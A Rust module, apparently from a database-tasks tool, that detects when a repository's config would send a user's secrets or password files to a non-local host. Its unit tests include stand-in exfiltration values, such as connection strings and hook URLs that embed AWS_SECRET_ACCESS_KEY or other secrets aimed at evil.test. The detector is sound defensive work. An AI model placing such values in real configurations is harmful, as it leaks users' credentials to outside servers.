//! Your variables that a repository sends to a server of its choice: `password-env =
//! "AWS_SECRET_ACCESS_KEY"` next to a stranger's host. Even a command that only reads connects, and
//! so sends them; it does that without asking only if it is harmless.

use super::stores::host_of;
use super::strangers::{Brought, thing};
use super::whereabouts::is_local;
use crate::config::hooks::Hook;
use crate::config::{At, Connection, Database, Env, Lent, Project, Share, Store, StoreKind, url};

/// All that would be sent to another machine. What the repository's own `.env` says belongs to it,
/// and variables named for parts of a database's address (`PGPASSWORD`, `POSTGRES_USER`,
/// `DB_PASSWORD`) are set to be sent.
pub fn lent(project: &Project, env: &Env) -> Vec<Brought> {
    let databases = project
        .databases
        .iter()
        .filter_map(|database| Some((keys_of(database), leads_away(database, project, env)?)));
    let stores = project
        .stores
        .iter()
        .filter_map(|store| Some((vec![format!("stores.{}.milvus.", store.key)], away(store)?)));
    // what a hook's address holds is sent when we check where it leads
    let of_databases = project
        .databases
        .iter()
        .map(|database| (format!("databases.{}.hooks", database.key), &database.hooks));

    let hooks =
        of_databases.chain([("hooks".to_owned(), &project.hooks)]).flat_map(|(at, hooks)| {
            let way = move |hook: &Hook| {
                Some((
                    vec![format!("{at}.{}.url", hook.moment)],
                    url_leads_away(hook.url.as_deref()?)?,
                ))
            };
            hooks.iter().filter_map(way)
        });

    let variables = databases.chain(stores).chain(hooks).flat_map(|(keys, host)| {
        let own = project
            .lent
            .iter()
            .filter(move |lent| keys.iter().any(|key| lent.key.starts_with(key.as_str())));
        own.flat_map(move |lent| {
            let brought = |variable: String| thing(&lent.key, format!("${variable} to {host}"));
            unexpected(lent, project, env).into_iter().map(brought).collect::<Vec<_>>()
        })
    });

    let mut all: Vec<Brought> = variables
        .chain(project.databases.iter().flat_map(|database| files(database, project, env)))
        .collect();
    all.dedup();

    all
}

/// What a server gets: its address, and the name of a database.
fn keys_of(database: &Database) -> Vec<String> {
    ["postgres.", "testing"].map(|part| format!("databases.{}.{part}", database.key)).into()
}

/// Your files with passwords that the repository names together with a host: libpq sends their
/// contents there.
fn files(database: &Database, project: &Project, env: &Env) -> Vec<Brought> {
    let Connection { host, options, .. } = &database.connection;
    let option =
        |name: &str| options.iter().find(|(option, _)| option == name).map(|(_, value)| value);
    let Some(away) = leads_away(database, project, env) else { return Vec::new() };
    let says_where = host.is_some() || option("PGHOSTADDR").is_some();
    let service = option("PGSERVICE")
        .filter(|_| says_where)
        .map(|name| format!("the password of your service `{name}` to {away}"));

    let passfile = option("PGPASSFILE").map(|file| format!("what `{file}` has for it to {away}"));
    let key = format!("databases.{}.postgres", database.key);

    service.into_iter().chain(passfile).map(|what| thing(&key, what)).collect()
}

/// The host of a hook's address, if that is not this machine; an address that can't be read may
/// lead anywhere.
fn url_leads_away(url: &str) -> Option<String> {
    match url::parse(url) {
        Ok(url) => other_machine(url.host.as_deref(), &url.options),
        Err(_) => Some("where it leads".into()),
    }
}

/// The first of all places libpq is sent to (by hosts, an address or a service) that is not this
/// machine.
fn other_machine(hosts: Option<&str>, options: &[(String, String)]) -> Option<String> {
    let led = options
        .iter()
        .find(|(name, _)| name == "PGHOSTADDR" || name == "PGSERVICE")
        .map(|(_, value)| value.as_str());
    hosts
        .into_iter()
        .flat_map(|hosts| hosts.split(','))
        .chain(led)
        .find(|host| !is_local(host))
        .map(String::from)
}

/// The host that a database's clients connect to, if that is not this machine. Clients in a
/// container connect to its own server, or to one in its network, whose name has no dots, unless
/// the repository names another.
fn leads_away(database: &Database, project: &Project, env: &Env) -> Option<String> {
    let Connection { host, options, .. } = &database.connection;
    let says_where = || {
        let keys =
            ["host", "url"].map(|part| format!("databases.{}.postgres.{part}", database.key));
        let own = |origin: &str| {
            origin.strip_prefix('$').is_some_and(|name| env.lenders(name).contains(name))
        };
        project.entries.iter().any(|entry| keys.contains(&entry.key) && !own(&entry.origin))
    };

    let is_of_its_network = |host: &str| !host.contains(['.', ':']);
    let is_led = || {
        options.iter().any(|(name, _)| name == "PGHOSTADDR")
            || !host.as_deref().is_none_or(is_of_its_network)
    };
    match &database.at {
        At::Cluster { .. } => return None,
        At::Container(_) if !(says_where() && is_led()) => return None,
        At::Container(_) | At::Host => {}
    }

    other_machine(host.as_deref(), options)
}

fn away(store: &Store) -> Option<String> {
    let StoreKind::Milvus { url, .. } = &store.kind else { return None };
    host_of(url).filter(|host| !is_local(host))
}

/// Your variables that it sends although they are not meant to be sent.
fn unexpected(lent: &Lent, project: &Project, env: &Env) -> Vec<String> {
    let beside = |part: &str| {
        let key = lent.key.trim_end_matches("url").to_owned() + part;
        project.entries.iter().any(|entry| entry.key == key)
    };
    let is_address = lent.share == Share::Whole && lent.key.ends_with("url");
    let led_on = is_address && (beside("host") || beside("port"));
    // a whole address says itself where it leads, unless the file adds another host
    let is_whole = |variable: &String| is_address && env.get(variable) == env.get(&lent.variable);
    let mut lenders = env.lenders(&lent.variable);

    lenders.retain(|variable| led_on || !is_whole(variable) && !is_for_a_database(variable));
    lenders.into_iter().collect()
}

/// Names that say so, and parts of an address that are never the name of a secret.
fn is_for_a_database(variable: &str) -> bool {
    const FIRST: [&str; 7] = ["PG", "POSTGRES", "POSTGRESQL", "DB", "DATABASE", "SQL", "MILVUS"];
    // libpq's own (<https://www.postgresql.org/docs/current/libpq-envars.html>), and two that
    // people use like them
    const LIBPQ: [&str; 8] =
        ["PGPASSWORD", "PGUSER", "PGHOST", "PGHOSTADDR", "PGPORT", "PGDATABASE", "PGURL", "PGPASS"];

    const HARMLESS: [&str; 9] = [
        "USER",
        "LOGNAME",
        "USERNAME",
        "HOST",
        "HOSTNAME",
        "PORT",
        "NAME",
        "ENVIRONMENT",
        "REGION",
    ];

    let upper = variable.to_ascii_uppercase();
    let [first, last] =
        [upper.split('_').next(), upper.rsplit('_').next()].map(Option::unwrap_or_default);

    FIRST.contains(&first) || LIBPQ.contains(&first) || HARMLESS.contains(&last)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{Dotenv, load};

    const DOTENV: &str = "OF_THE_FILE=x\nEXPORTED=exported\nSTOLEN=\"${HELD}\"\nTWICE=a${STOLEN}\n\
                          SELF=${SELF}\nEVIL_URL=postgresql://u:${HELD}@evil.test/x\n\
                          SAME_URL=${SHOP_URL}\n";

    #[test]
    fn what_is_sent_to_another_machine_is_named() {
        let env = || {
            Env::of([
                ("AWS_SECRET_ACCESS_KEY", "aws-secret"),
                ("HELD", "held-secret"),
                ("EXPORTED", "exported"),
                ("SHOP_URL", "postgresql://u:p@db.test/shop"),
                ("DATABASE_URL", "postgresql://u:p@db.test/shop"),
                ("PGPASSWORD", "p"),
                ("DB_PASSWORD", "p"),
                ("PROD_DB_PASSWORD", "p"),
                ("REGION", "eu"),
                ("SELF", "self"),
                ("PGP_PASSPHRASE", "p"),
            ])
        };

        let table =
            |more: &str| format!("[databases.main]\npostgres = {{ database = \"app\", {more} }}\n");
        let store = |more: &str| {
            format!("[stores.v]\nmilvus = {{ {more} }}\n{}", table("host = \"localhost\""))
        };

        let hook = |url: &str| {
            format!(
                "{}[hooks]\nmigrate = {{ run = \"true\", url = \"{url}\" }}\n",
                table("host = \"localhost\"")
            )
        };

        let inside = |more: &str| {
            format!(
                "[containers.c]\ndocker = \"c\"\n[databases.main]\ncontainer = \"c\"\npostgres = \
                 {{ {more} }}\n"
            )
        };

        let aws = "password-env = \"AWS_SECRET_ACCESS_KEY\"";
        for (toml, wanted) in [
            (table(&format!("host = \"evil.test\", {aws}")), "$AWS_SECRET_ACCESS_KEY to evil.test"),
            (
                table(&format!("host = \"localhost,evil.test\", {aws}")),
                "$AWS_SECRET_ACCESS_KEY to evil.test",
            ),
            (
                table("url = \"postgresql://u:${AWS_SECRET_ACCESS_KEY}@evil.test/x\""),
                "$AWS_SECRET_ACCESS_KEY to evil.test",
            ),
            (
                table(
                    "url = \"postgresql://u@localhost/x?hostaddr=192.0.2.1\", password-env = \
                     \"HELD\"",
                ),
                "$HELD to 192.0.2.1",
            ),
            (
                table("host = \"evil.test\", password-env = \"PROD_DB_PASSWORD\""),
                "$PROD_DB_PASSWORD to evil.test",
            ),
            (table("host = \"${HELD}.evil.test\""), "$HELD to held-secret.evil.test"),
            (table("host = \"evil.test\", user = \"${HELD}\""), "$HELD to evil.test"),
            (table("url = \"${SHOP_URL}\", host = \"evil.test\""), "$SHOP_URL to evil.test"),
            (
                table("url = \"${DATABASE_URL}\", host = \"evil.test\""),
                "$DATABASE_URL to evil.test",
            ),
            (
                store("url = \"https://evil.test:19530\", token-env = \"HELD\""),
                "$HELD to evil.test",
            ),
            (store("url = \"https://x:${HELD}@evil.test\""), "$HELD to evil.test"),
            // by way of `.env`, of a hook, of a database for tests, and from a container
            (table("host = \"evil.test\", password-env = \"STOLEN\""), "$HELD to evil.test"),
            (table("host = \"evil.test\", password-env = \"TWICE\""), "$HELD to evil.test"),
            (table("host = \"evil.test\", password-env = \"SELF\""), "$SELF to evil.test"),
            (
                "[databases.main]\npostgres = { url = \"${EVIL_URL}\" }\n".into(),
                "$HELD to evil.test",
            ),
            (
                table("host = \"evil.test\", password-env = \"PGP_PASSPHRASE\""),
                "$PGP_PASSPHRASE to evil.test",
            ),
            (hook("postgresql://u:${HELD}@evil.test/{database}"), "$HELD to evil.test"),
            (
                hook("postgresql://u:${HELD}@evil.test/{database}")
                    .replace("[hooks]", "[databases.main.hooks]"),
                "$HELD to evil.test",
            ),
            (hook("x${HELD}"), "$HELD to where it leads"),
            (
                format!("{}testing = \"${{HELD}}\"\n", table("host = \"evil.test\"")),
                "$HELD to evil.test",
            ),
            (inside("host = \"evil.test\", password-env = \"HELD\""), "$HELD to evil.test"),
            // files of the person's that libpq reads
            (
                table("url = \"postgresql://u@evil.test/x?service=prod\""),
                "the password of your service `prod` to evil.test",
            ),
            (
                table("url = \"postgresql://u@evil.test/x?passfile=/home/me/.x\""),
                "what `/home/me/.x` has for it to evil.test",
            ),
            (table("url = \"postgresql:///x?service=prod\""), ""),
            // this machine, a container, the file's own values, and what is set to be sent
            (table(&format!("host = \"localhost\", {aws}")), ""),
            (table(&format!("host = \"/run/postgresql\", {aws}")), ""),
            (inside(aws), ""),
            (inside(&format!("host = \"db\", {aws}")), ""),
            ("[databases.main]\npostgres = { url = \"${SAME_URL}\" }\n".into(), ""),
            (hook("${SHOP_URL}"), ""),
            (hook("postgresql://u:${HELD}@localhost/{database}"), ""),
            (table("host = \"db.test\", password-env = \"OF_THE_FILE\""), ""),
            (table("host = \"db.test\", password-env = \"EXPORTED\""), ""),
            (table("host = \"db.test\", password-env = \"DB_PASSWORD\""), ""),
            (table("host = \"${REGION}.db.test\", password-env = \"PGPASSWORD\""), ""),
            ("[databases.main]\npostgres = { url = \"${SHOP_URL}\" }\n".into(), ""),
            ("[databases.main]\npostgres = { url = \"${DATABASE_URL}\" }\n".into(), ""),
            (store("url = \"http://localhost:19530\", token-env = \"HELD\""), ""),
        ] {
            let folder = tempfile::tempdir().unwrap();
            std::fs::write(folder.path().join("db-tasks.toml"), &toml).unwrap();
            std::fs::write(folder.path().join(".env"), DOTENV).unwrap();
            let (project, env) =
                load(&folder.path().join("db-tasks.toml"), env(), Dotenv::Read).unwrap();
            let said: Vec<String> = lent(&project, &env).into_iter().map(|one| one.what).collect();
            assert_eq!(said.join(", "), wanted, "{toml}");
        }
    }
}
